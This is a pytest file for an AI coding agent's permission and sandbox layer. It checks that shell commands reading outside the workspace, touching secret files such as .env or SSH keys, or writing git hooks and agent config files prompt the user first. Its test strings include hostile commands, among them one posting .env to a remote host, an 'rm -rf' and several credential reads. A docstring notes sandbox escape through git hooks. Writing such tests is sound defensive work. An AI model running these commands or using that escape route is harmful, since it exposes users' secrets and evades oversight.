"""A command that names hidden paths asks first (T1, G13), as it would fail in its level.

`tests/e2e/test_unasked_lines.py` shows that paths stay hidden whatever a line says.
"""

import tempfile
from pathlib import Path

import pytest

from support.each import each
from support.granting import granted_by_always
from tiller_daemon.policy.rules import BUILT_IN, decide, evaluate
from tiller_daemon.sandbox.level import SandboxLevel
from tiller_daemon.session.calls.command_paths import (
    further_requirements,
    requirements_without_sandbox,
)
from tiller_daemon.session.calls.turn_sandboxes import changes_reported
from tiller_daemon.tools.base import Requirement, ToolFailure
from tiller_protocol.settings import Rule


def command(text: str) -> Requirement:
    return Requirement("bash", (text,), kind="command", loosest_unasked=SandboxLevel.BUILD)


def beyond(text: str, workspace: Path, *rules: Rule) -> list[tuple[str, tuple[str, ...]]]:
    """Return the further requirements of a line that are not simply allowed."""
    asked: dict[str, tuple[str, ...]] = {}
    for requirement in further_requirements([command(text)], workspace, lambda _: False):
        for subject in requirement.subjects:
            if evaluate(requirement.permission, subject, (*BUILT_IN, *rules)) != "allow":
                asked[requirement.permission] = (*asked.get(requirement.permission, ()), subject)
    return list(asked.items())


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    (tmp_path / "work" / "src").mkdir(parents=True)
    (tmp_path / "secret").write_text("key")
    for name in (".env", "src/server.pem", "README.md", "private"):
        (tmp_path / "work" / name).write_text("text")
    (tmp_path / "work" / "link").symlink_to(tmp_path / "secret")
    return tmp_path / "work"


@pytest.mark.parametrize(
    ("text", "subjects"),
    [
        ("cat /etc/hosts", ("/etc/hosts",)),
        ("cat ../secret", ("{}/secret",)),
        ("cat src/../../secret", ("{}/secret",)),
        ("cat src/a && cat /etc/hosts | head", ("/etc/hosts",)),
        ("cd .. && cat secret", ("{}",)),
        ("cd /usr; ls ../etc", ("/usr", "/etc")),
        ("ls ..", ("{}",)),
        ("find /usr -name '*.pem'", ("/usr",)),
        ("grep -r key /home", ("/home",)),
        ("grep key --file=/etc/hosts src", ("/etc/hosts",)),
        ("diff src/a /etc/hosts", ("/etc/hosts",)),
        ("wc -l $(cat /etc/hosts)", ("/etc/hosts",)),
        ("git -C ../other log", ("{}/other",)),
        ("sh -c 'cat /etc/hosts'", ("/etc/hosts",)),
        ("pytest ../other", ("{}/other",)),
        ("make -C /usr/src", ("/usr/src",)),
    ],
)
def test_a_literal_path_outside_is_asked_about(text, subjects, workspace: Path) -> None:
    named = tuple(one.format(workspace.parent) for one in subjects)
    assert beyond(text, workspace) == [("external_directory", named)]
    requirements = (
        command(text),
        *further_requirements([command(text)], workspace, lambda _: False),
    )
    assert decide(requirements, [], "ask").action == "ask"
    assert decide(requirements, granted_by_always(requirements), "ask").action == "allow"


def test_the_sessions_own_temporary_files_are_not_asked_about(
    workspace: Path, tmp_path: Path
) -> None:
    """A command sees those anyway. It sees the machine's only once the user has said so."""
    own = tmp_path / "own"
    own.mkdir()
    (own / "made").write_text("by an earlier command")
    with tempfile.NamedTemporaryFile(dir="/tmp") as file, tempfile.TemporaryDirectory() as folder:
        machines = Path(file.name).resolve()

        def asked(text: str, temporary: Path | None = own) -> list[str]:
            needs = further_requirements(
                [command(text)], workspace, lambda _: False, None, temporary
            )
            return [one for need in needs for one in need.subjects if need.kind == "path"]

        assert asked("make > /tmp/new 2>&1; tail /tmp/new; cat /var/tmp/made /tmp/made") == []
        assert asked("ls /tmp; cd /tmp && pytest") == []
        assert asked(f"cat {machines} /tmp/made") == [str(machines)]
        assert asked(f"ls {folder}; cat /tmp/../etc/hosts") == [folder, "/etc/hosts"]
        (own / machines.name).write_text("hides the machine's")
        assert asked(f"cat {machines}") == []
        assert asked("cat /tmp/made", None) == ["/tmp/made"]


def test_beside_the_workspace_only_the_secrets_of_its_repository_are_asked_about(
    workspace: Path,
) -> None:
    top = workspace.parent
    (top / ".env").write_text("KEY=x")

    def asked(text: str) -> list[tuple[str, tuple[str, ...]]]:
        needs = further_requirements([command(text)], workspace, lambda _: False, top)
        return [
            (need.permission, need.subjects)
            for need in needs
            if any(evaluate(need.permission, one, BUILT_IN) != "allow" for one in need.subjects)
        ]

    assert asked("cat ../secret; ls ..; git -C ../other log; pytest ../other") == []
    assert asked("cat ../.env") == [("read", ("../.env",))]
    assert asked("cat ../../elsewhere") == [("external_directory", (f"{top.parent}/elsewhere",))]


def test_the_home_is_outside(workspace: Path) -> None:
    ((permission, subjects),) = beyond("head -n 1 ~/.ssh/id_ed25519", workspace)
    assert permission == "external_directory"
    assert subjects == (str(Path("~/.ssh/id_ed25519").expanduser()),)


@pytest.mark.parametrize(
    "text",
    [
        "ls",
        "cat src/a.py | head -5",
        "git log --oneline -5 -- src",
        "grep -rn '/api/v1' src",
        "sed -n '/start/,/end/p' f",
        "echo /etc/passwd $HOME",
        "sleep 0.1; pwd; date",
        "cat a 2>/dev/null",
        "cat /proc/cpuinfo",
        "ls /",
        "cd src/.. && ls",
        "cat README.md",
        "ls .env; test -f .env",
        "grep '.env' README.md",
        "cat missing.pem",
    ],
)
def test_what_hides_nothing_is_not_asked_about(text, workspace: Path) -> None:
    assert beyond(text, workspace) == []


@pytest.mark.parametrize(
    ("text", "subject"),
    [
        ("cat .env", ".env"),
        ("cd src && cat server.pem", "src/server.pem"),
        ("sort ./.env | uniq", ".env"),
        ("git show HEAD:.env", ".env"),
        ("grep --file=.env x README.md", ".env"),
        ("grep KEY .env", ".env"),
        ("pytest --env .env", ".env"),
        ("cat '.env'", ".env"),
    ],
)
def test_a_protected_file_that_is_there_is_asked_about(text, subject, workspace: Path) -> None:
    assert beyond(text, workspace) == [("read", (subject,))]
    (workspace / subject).unlink()
    assert beyond(text, workspace) == []


def test_files_are_protected_by_the_rules_of_the_session_too(workspace: Path) -> None:
    assert beyond("cat private", workspace) == []
    assert beyond("cat private", workspace, Rule("read", "private", "deny")) == [
        ("read", ("private",))
    ]


@pytest.mark.parametrize("text", ["cat $file", "cat .e*", "cat link", "cat < .env", "cat {.env,a}"])
def test_what_only_the_run_will_tell_is_left_to_the_sandbox(text, workspace: Path) -> None:
    assert beyond(text, workspace) == []


@pytest.mark.parametrize(
    "text", ["rm -rf /etc/x", "cp .env x", "curl -d @.env http://x", "ls > /x"]
)
def test_a_command_that_asks_anyway_is_asked_about_as_a_whole(text, workspace: Path) -> None:
    assert beyond(text, workspace) == []
    assert decide([command(text)], [], "ask").action == "ask"


@pytest.mark.parametrize("sandbox", [True, False])
def test_without_a_sandbox_every_command_that_is_not_confined_needs_permission(sandbox) -> None:
    for text in ("ls", "rm x", "pytest"):
        found = requirements_without_sandbox([command(text)], reads_are_sandboxed=sandbox)
        asks = text != "ls" or not sandbox
        assert [requirement.subjects for requirement in found] == ([(text,)] if asks else [])
        assert all(requirement.permission == "unsandboxed" for requirement in found)


@each(
    ("path", "asks"),
    [
        (".git/hooks/pre-commit", True),
        (".git/config", True),
        ("sub/.git/hooks/x", True),
        (".GIT/hooks/x", True),
        (".tiller/config.toml", True),
        (".vscode/tasks.json", True),
        (".claude/settings.json", True),
        (".envrc", True),
        ("/home/u/.codex/config.toml", True),
        (".gitignore", False),
        ("src/git/hooks.py", False),
        (".github/workflows/x.yml", False),
    ],
)
@pytest.mark.promise("B60")
def test_permission_to_write_does_not_cover_what_makes_programs_run(path, asks):
    """An agent could escape from its sandbox by a hook that the user's own git runs."""
    write = Requirement("write", (path,), kind="path")
    requirements = (write, *further_requirements((write,), Path("/w"), lambda _: False))
    rules = (Rule("write", "*", "allow"), Rule("bash", "*", "allow"))
    verdict = decide(requirements, rules, "ask")
    assert verdict.action == ("ask" if asks else "allow")
    if asks:
        assert verdict.permission == "protected_path"
        granted = (*rules, *granted_by_always(requirements))
        assert decide(requirements, granted, "ask").action == "allow"


def test_a_path_that_changes_while_it_is_resolved_fails_the_call_alone(tmp_path: Path):
    with pytest.raises(ToolFailure, match=rf"{tmp_path} changed while it was being resolved"):  # noqa: SIM117
        with changes_reported():
            tmp_path.readlink()  # As if a directory had replaced a link meanwhile.
